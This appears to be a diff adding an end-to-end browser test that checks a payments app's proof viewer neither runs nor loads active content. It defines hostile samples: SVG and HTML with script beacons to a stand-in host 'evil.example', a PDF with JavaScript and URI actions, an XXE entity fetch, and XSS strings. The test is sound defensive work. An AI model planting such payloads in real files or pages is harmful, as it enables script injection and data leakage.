@@ -1,0 +1,75 @@
+import type { Page } from '@playwright/test';
+import { closeCompany, openCompany, signIn } from './company.ts';
+import { expect, test } from './fixture.ts';
+import { faultsOf, goToProofs, launchFor, paste, show } from './proofs-screen.ts';
+
+test.setTimeout(300_000);
+
+const script = 'window.hacked = true; fetch("https://evil.example/beacon")';
+const scriptedPdf = [
+  '%PDF-1.7',
+  '1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj',
+  '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
+  '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/AA<</O<</S/URI/URI(https://evil.example/pdf)>>>>>>endobj',
+  'trailer<</Root 1 0 R>>',
+].join('\n');
+
+/** Samples that each try to run code or to reach a host. */
+const hostile: Readonly<Record<string, { pop: unknown; type: string }>> = {
+  'svg-script': {
+    pop: `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40" onload="${script.replaceAll('"', "'")}"><script>${script}</script><image href="https://evil.example/a.png" width="9" height="9"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://evil.example/b.png"/></body></foreignObject><style>@import "https://evil.example/c.css";</style></svg>`,
+    type: 'IMAGE',
+  },
+  'html-page': {
+    pop: `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body onload="${script.replaceAll('"', "'")}"><script>${script}</script><img src="https://evil.example/d.png"><iframe src="https://evil.example/e"></iframe></body></html>`,
+    type: '<img src=x onerror=alert(1)>',
+  },
+  'pdf-script': { pop: Buffer.from(scriptedPdf).toString('base64'), type: 'PDF' },
+  'pdf-broken': { pop: Buffer.from('%PDF-1.7\n1 0 obj\n<<').toString('base64'), type: 'PDF' },
+  'xml-bomb': {
+    pop: '<!DOCTYPE a [<!ENTITY x SYSTEM "https://evil.example/x"><!ENTITY y "&x;&x;">]><a>&y;</a>',
+    type: 'ISO20022',
+  },
+  'json-page': { pop: { __proto__: null, html: `<script>${script}</script>` }, type: 'JSON' },
+  'data-page': { pop: `data:text/html,<script>${encodeURIComponent(script)}</script>`, type: 'X' },
+  'script-link': { pop: 'javascript:alert(1)', type: 'WIRE' },
+};
+
+/** Waits two frames, so that active content would have started. */
+async function waitTwoFrames(page: Page): Promise<void> {
+  await page.evaluate(async () => {
+    for (let count = 0; count < 2; count += 1) await new Promise((resolve) => requestAnimationFrame(resolve));
+  });
+}
+
+test('proofs with active content neither run nor load anything', async ({ launch }) => {
+  const company = await openCompany();
+  company.simulator.faults.set('proof', ...faultsOf(hostile));
+  const paydesk = await launchFor(launch, company);
+  await signIn(paydesk, company);
+  const { page } = paydesk;
+  const requests: string[] = [];
+  page.on('request', (request) => requests.push(request.url()));
+  let dialogs = 0;
+  page.on('dialog', (dialog) => {
+    dialogs += 1;
+    void dialog.dismiss();
+  });
+  await goToProofs(page);
+  const references = Object.keys(hostile);
+  await paste(page, references);
+  for (const reference of references) {
+    await show(page, reference);
+    await expect(page.getByRole('status', { name: 'Opening proof' })).toBeHidden();
+    await waitTwoFrames(page);
+  }
+  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined();
+  expect(dialogs).toBe(0);
+  expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
+  expect(paydesk.blockedRequests()).toEqual([]);
+  // An image has a document of its own; no element of the samples is part of the window's document.
+  expect(await page.locator('svg[onload], iframe, meta[http-equiv="refresh"]').count()).toBe(0);
+  await show(page, 'html-page');
+  await expect(page.getByRole('region', { name: 'Raw text' })).toContainText('http-equiv="refresh"');
+  await closeCompany(company);
+});
